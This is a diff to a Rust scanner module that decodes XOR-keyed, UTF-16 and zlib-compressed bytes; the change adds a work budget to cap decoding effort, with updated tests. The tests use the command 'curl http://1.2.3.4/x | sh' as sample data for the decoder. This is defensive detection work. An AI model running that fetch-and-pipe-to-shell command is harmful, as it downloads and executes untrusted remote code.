@@ -1,6 +1,7 @@
 //! What decoded bytes are: text, UTF-16, compressed, keyed with one byte, or a binary with strings in it.
 
 use super::plain;
+use crate::scan::work::Work;
 use miniz_oxide::inflate::{decompress_to_vec_with_limit, decompress_to_vec_zlib_with_limit};
 
 /// The largest text that is unpacked from compressed bytes.
@@ -39,7 +40,7 @@ const MEDIA: &[&[u8]] = &[
 ];
 
 /// Reads bytes as text, with the names of the steps that took. `keyed`: the text around speaks of XOR or a key.
-pub(super) fn read(bytes: &[u8], keyed: bool) -> Option<(Vec<&'static str>, String)> {
+pub(super) fn read(bytes: &[u8], keyed: bool, work: &Work) -> Option<(Vec<&'static str>, String)> {
     if bytes.len() < 4 {
         return None;
     }
@@ -58,7 +59,7 @@ pub(super) fn read(bytes: &[u8], keyed: bool) -> Option<(Vec<&'static str>, Stri
     if MEDIA.iter().any(|m| bytes.starts_with(m)) {
         return None;
     }
-    if keyed && let Some(text) = xor(bytes) {
+    if keyed && let Some(text) = xor(bytes, work) {
         return Some((vec!["xor"], text));
     }
     strings(bytes).map(|t| (vec!["strings"], t))
@@ -143,8 +144,8 @@ fn kept(result: Result<Vec<u8>, miniz_oxide::inflate::DecompressError>) -> Optio
 }
 
 /// Bytes keyed with a single byte, found by trying all keys on the start.
-pub(super) fn xor(bytes: &[u8]) -> Option<String> {
-    if bytes.len() < 12 || bytes.len() > MAX_KEYED {
+pub(super) fn xor(bytes: &[u8], work: &Work) -> Option<String> {
+    if bytes.len() < 12 || bytes.len() > MAX_KEYED || !work.spend(512) {
         return None;
     }
     let head = &bytes[..bytes.len().min(48)];
@@ -152,6 +153,9 @@ pub(super) fn xor(bytes: &[u8]) -> Option<String> {
     for key in 1..=255u8 {
         if !head.iter().all(|b| matches!(b ^ key, b'\n' | b'\r' | b'\t' | 0x20..=0x7e)) {
             continue;
+        }
+        if !work.spend(bytes.len() * 4) {
+            break;
         }
         let plain: Vec<u8> = bytes.iter().map(|b| b ^ key).collect();
         // Neighbouring keys give letters too: the right one gives words and spaces.
@@ -195,23 +199,46 @@ mod tests {
     fn keyed_and_wide_texts_are_read() {
         let plain = b"curl http://1.2.3.4/x | sh";
         let keyed: Vec<u8> = plain.iter().map(|b| b ^ 0x9f).collect();
-        assert_eq!(read(&keyed, true), Some((vec!["xor"], "curl http://1.2.3.4/x | sh".into())));
+        assert_eq!(
+            read(&keyed, true, &Work::for_text(1 << 20)),
+            Some((vec!["xor"], "curl http://1.2.3.4/x | sh".into()))
+        );
         let wide: Vec<u8> = plain.iter().flat_map(|b| [*b, 0]).collect();
-        assert_eq!(read(&wide, false), Some((vec!["utf-16"], "curl http://1.2.3.4/x | sh".into())));
+        assert_eq!(
+            read(&wide, false, &Work::for_text(1 << 20)),
+            Some((vec!["utf-16"], "curl http://1.2.3.4/x | sh".into()))
+        );
         let packed = miniz_oxide::deflate::compress_to_vec_zlib(plain, 6);
-        assert_eq!(read(&packed, false), Some((vec!["zlib"], "curl http://1.2.3.4/x | sh".into())));
+        assert_eq!(
+            read(&packed, false, &Work::for_text(1 << 20)),
+            Some((vec!["zlib"], "curl http://1.2.3.4/x | sh".into()))
+        );
     }
 
     #[test]
     fn a_bomb_is_cut() {
         let packed = miniz_oxide::deflate::compress_to_vec_zlib(&b"curl http://a.b/ ".repeat(1 << 20), 6);
-        let (_, text) = read(&packed, false).unwrap();
+        let (_, text) = read(&packed, false, &Work::for_text(1 << 20)).unwrap();
         assert!(text.len() <= MAX_UNPACKED);
     }
 
     #[test]
     fn media_is_no_text() {
-        assert_eq!(read(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR http://ns.adobe.com/ password", true), None);
-        assert_eq!(read(&[0xde, 0xad, 0xbe, 0xef, 0x80, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12], true), None);
+        assert_eq!(
+            read(
+                b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR http://ns.adobe.com/ password",
+                true,
+                &Work::for_text(1 << 20)
+            ),
+            None
+        );
+        assert_eq!(
+            read(
+                &[0xde, 0xad, 0xbe, 0xef, 0x80, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12],
+                true,
+                &Work::for_text(1 << 20)
+            ),
+            None
+        );
     }
 }
